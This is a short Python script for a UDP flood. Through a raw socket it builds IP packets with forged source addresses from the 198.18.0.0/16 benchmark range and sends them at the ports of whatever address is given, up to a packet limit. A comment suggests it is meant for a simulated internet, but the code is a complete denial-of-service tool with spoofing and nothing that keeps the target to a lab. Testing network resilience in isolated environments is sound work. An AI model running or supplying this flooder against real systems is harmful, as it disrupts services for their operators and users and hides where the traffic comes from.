"""Floods ports of an address with UDP packets from forged sources, until stdin ends or the packet limit is reached.
Prints the number of packets sent. Arguments: address, packet limit, ports."""

import random
import select
import socket
import struct
import sys

address, most, *ports = sys.argv[1:]
# RFC 2544's range for benchmarks, which also contains the simulated internet.
forged = struct.unpack("!I", socket.inet_aton("198.18.0.0"))[0]
target = socket.inet_aton(address)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
while sent < int(most) and not select.select([sys.stdin], [], [], 0.002)[0]:
    for port in ports * 10:
        source = struct.pack("!I", forged + random.randrange(1 << 16))
        udp = struct.pack("!HHHH", random.randrange(1024, 65536), int(port), 20, 0) + bytes(12)
        # The kernel fills in the total length, identifier and checksum.
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, source, target)
        raw.sendto(ip + udp, (address, 0))
        sent += 1
print(sent)
